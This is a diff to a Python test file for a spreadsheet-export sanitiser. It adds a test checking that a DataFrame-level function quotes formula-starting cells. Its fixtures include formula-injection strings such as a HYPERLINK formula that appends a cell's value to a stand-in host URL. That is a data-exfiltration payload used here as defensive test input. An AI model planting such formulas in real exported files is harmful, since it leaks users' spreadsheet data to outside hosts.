@@ -22,7 +22,7 @@ from scanner.export import export
 from scanner.outputs import final_items
 from scanner.pipeline import scan
 from scanner.review import queue as q
-from scanner.spreadsheet import spreadsheet_safe
+from scanner.spreadsheet import spreadsheet_safe, spreadsheet_safe_frame
 
 HOSTILE_COMMENTS = {
     "q01_comment": '=HYPERLINK("http://x.example/?"&A1,"y")',
@@ -58,6 +58,24 @@ FORMULA_BROKEN = '=HYPERLINK("x.example?"&A1,"y").pdf'
 ])
 def test_text_a_spreadsheet_would_run_gets_a_quote(text, cell):
     assert spreadsheet_safe(text) == cell
+
+
+def test_a_frame_quotes_each_cell_as_spreadsheet_safe_does_whatever_its_columns_hold():
+    # The frame looks at its columns' first characters before it looks at a cell: a
+    # column is passed over only when no cell of it may start a formula.
+    cells = ["=1+2", " =1", "\u3000=1", "\u00a0@x", "\tx", "-1", "-2+3", "plain", "", "1-2"]
+    df = pd.DataFrame({
+        **{f"only_{k}": ["a", cell, None] for k, cell in enumerate(cells)},
+        "mixed": pd.Series(["x", 3, "=1"], dtype=object),
+        "numbers": [-1.5, 2.0, None],
+        "strings": pd.Series(["ok", "+1+2", None], dtype="string"),
+    })
+    out = spreadsheet_safe_frame(df)
+    for name in df.columns:
+        expected = [spreadsheet_safe(v) if isinstance(v, str) else v for v in df[name]]
+        got = list(out[name])
+        assert [g for g in got if isinstance(g, str)] == [e for e in expected if isinstance(e, str)], name
+    assert list(out["only_2"])[1] == "'\u3000=1" and list(out["numbers"])[0] == -1.5
 
 
 @pytest.mark.parametrize(("typed", "stored"), [
